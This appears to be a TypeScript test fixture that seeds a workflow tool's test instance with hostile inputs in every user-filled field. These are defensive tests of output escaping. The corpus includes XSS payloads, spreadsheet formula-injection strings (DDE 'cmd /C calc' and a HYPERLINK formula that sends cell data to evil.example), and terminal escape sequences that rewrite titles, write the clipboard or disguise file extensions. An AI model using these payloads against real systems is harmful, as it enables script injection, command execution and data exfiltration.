import type { TestContext } from "node:test";
import { type RealInstance, realInstance } from "./real-instance.ts";
import { until } from "../e2e/flowlord.ts";

/** What a browser runs, where it is taken for markup, script, style or a template. */
export const MARKUP: readonly string[] = [
  "<script>alert(1)</script>",
  "\"'><img src=x onerror=alert(1)>",
  "</title></textarea></script><svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "javascript:alert(1)",
  "<!--<style>@import'//evil.example'</style>",
  "{{constructor.constructor('alert(1)')()}}${alert(1)}",
  "\u2028alert(1)\u2029",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\ufeff<b onclick=alert(1)>",
];
/** What a spreadsheet runs. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\uff1d1+1",
  'a","=1+1',
  "a;=1+1\r\n=1+1",
];
/** What a terminal obeys, or what turns and breaks its lines. */
export const ESCAPES: readonly string[] = [
  "\u001b[2J\u001b[H\u001b[31m",
  "\u001b]0;pwned\u0007",
  "\u001b]52;c;ZXZpbA==\u001b\\",
  "\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007",
  "\u009b31m\u009d0;pwned\u009c",
  "\u001bP$q\u001b\\\u001bc",
  "txt.\u202eexe\u2066",
  "all is well\rall is gone\b\b\b",
];
export const CORPUS: readonly string[] = [...MARKUP, ...FORMULAS, ...ESCAPES];

/** No slash and no control character may stand in a file's name, or it stands for a folder. */
const FILE = "<img src=x onerror=alert(1)>=1+1.toml";
const quoted = (text: string): string => JSON.stringify(text);

const FILES: Readonly<Record<string, string>> = {
  [`flow/${FILE}`]: `
[[phase]]
task = "in"
rule = "files=/in/<b>*"
template = "{filepath}"
owner = "<script>alert(1)</script>"
description = "=1+1 <script>alert(1)</script> \\u001b[2J"

[[phase]]
task = "in:=1+1<svg onload=alert(1)>"
dependsOn = "<script>alert(1)</script>"

[[phase]]
task = "shout"
rule = "cron=@yearly"
template = "=1+1<script>alert(1)</script>"
retry = 0
`,
  "flow/broken.toml": `[[phase]]\ntask = "<script>alert(1)</script>"\nrule = "cron=<img src=x onerror=alert(1)>"\n`,
  "flow/page.html": "<script>alert(1)</script>\n",
  "flow/page.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
};
const CONFIG = `[[worker]]
type = "shout"
exec = ["printf", "%b", "<script>alert(1)</script>\\\\033[2J\\\\033]0;pwned\\\\007=1+1\\\\n"]
`;

export interface Planted extends RealInstance {
  /** The file of workflows whose name is markup. */
  readonly workflow: string;
  readonly post: (path: string, body: object) => Promise<Record<string, unknown>>;
  readonly get: (path: string) => Promise<Record<string, never[]>>;
}

/** An instance whose record has the corpus in every field that somebody outside fills in. */
export async function planted(t: TestContext): Promise<Planted> {
  const instance = await realInstance(t, { files: FILES, config: "alert_on_unmatched = true\n", tables: CONFIG });
  const { url, asInstance } = instance;
  const headers = {
    ...asInstance,
    "content-type": "application/json",
    "flowlord-user": encodeURIComponent(`<b>ada</b>${ESCAPES[0]}`),
    "user-agent": "<script>alert(1)</script>",
  };
  const post = async (path: string, body: object): Promise<Record<string, unknown>> => {
    const answer = await fetch(`${url}${path}`, { method: "POST", headers, body: JSON.stringify(body) });
    const text = await answer.text();
    if (!answer.ok) throw new Error(`${path}: ${answer.status} ${text}`);
    return JSON.parse(text) as Record<string, unknown>;
  };
  const get = async (path: string): Promise<Record<string, never[]>> =>
    (await (await fetch(`${url}${path}`, { headers })).json()) as Record<string, never[]>;

  await plant(post);
  await until(async () => {
    const { tasks } = (await get("/api/tasks?limit=500")) as unknown as { tasks: { result: string; type: string }[] };
    const isDone = tasks.some(({ type, result }) => type === "shout" && result === "complete");
    return isDone && tasks.filter(({ type }) => type === "load").length === CORPUS.length;
  });
  await steer(post, get);
  return { ...instance, workflow: FILE, post, get };
}

type Post = Planted["post"];

async function plant(post: Post): Promise<void> {
  await post("/api/workflows/phases/shout/trigger", { reason: CORPUS[0] });
  const done = CORPUS.map((text, at) =>
    JSON.stringify({
      type: "load",
      job: MARKUP[at % MARKUP.length],
      id: `id-${at}`,
      info: text,
      meta: `note=${encodeURIComponent(text)}&workflow=${encodeURIComponent(FILE)}`,
      created: "2026-01-01T00:00:00Z",
      result: at % 3 === 0 ? "alert" : at % 3 === 1 ? "error" : "complete",
      msg: text,
    }),
  );
  await post("/api/topics/done/messages", { messages: done, reason: CORPUS[0] });
  // Neither is a message: they become dead letters.
  await post("/api/topics/done/messages", { messages: [CORPUS.join(""), `{"type":${quoted(CORPUS.join(""))}`] });
  for (const text of CORPUS)
    await post("/api/files", { path: `/in/${text}`, checksum: text.slice(0, 40), reason: text });
  for (const text of CORPUS) await post("/api/files", { path: `/elsewhere/${text}` });
}

/** What people say about what is there. */
async function steer(post: Post, get: Planted["get"]): Promise<void> {
  const { tasks } = (await get("/api/tasks?type=load&limit=2")) as unknown as { tasks: { record_id: number }[] };
  const [{ record_id: record } = { record_id: 0 }] = tasks;
  for (const text of MARKUP)
    await post("/api/notes", { target: { kind: "task", key: String(record) }, text: `note ${text}` });
  const { alerts } = (await get("/api/alerts?limit=5")) as unknown as { alerts: { id: number }[] };
  const [{ id: alert } = { id: 0 }] = alerts;
  await post("/api/notes", { target: { kind: "alert", key: String(alert) }, text: CORPUS.join(" ") });
  await post("/api/alerts/actions", { action: "acknowledge", ids: [alert], note: CORPUS.join(" ") });
  const matcher = { types: [MARKUP[0]], labels: { note: MARKUP[1] } };
  await post("/api/silences", { matcher, ends_at: "2999-01-01T00:00:00Z", reason: CORPUS.join(" ") });
  await post("/api/workflows/phases/in/pause", { reason: CORPUS.join(" ").slice(0, 900) });
  await post("/api/jobs", { action: "cancel", ids: [record], begin: true, reason: MARKUP.join(" ") });
  await post("/api/keys", { name: "key", role: "viewer", expires_at: null });
  const dead = (await get("/api/dead-letters")) as unknown as { dead_letters: { id: number }[] };
  const [{ id: letter } = { id: 0 }] = dead.dead_letters;
  await post("/api/dead-letters/redrive", { ids: [letter], payload: null, reason: MARKUP.join(" ") });
  const span = { type: "shout", from: "2025-01-01", to: "2026-12-31", only: "all", reason: MARKUP.join(" ") };
  const { reason: _, ...asked } = span;
  const { pagination } = (await post("/api/backfills/preview", asked)) as { pagination: { total: number } };
  await post("/api/backfills", { ...span, total: pagination.total });
}
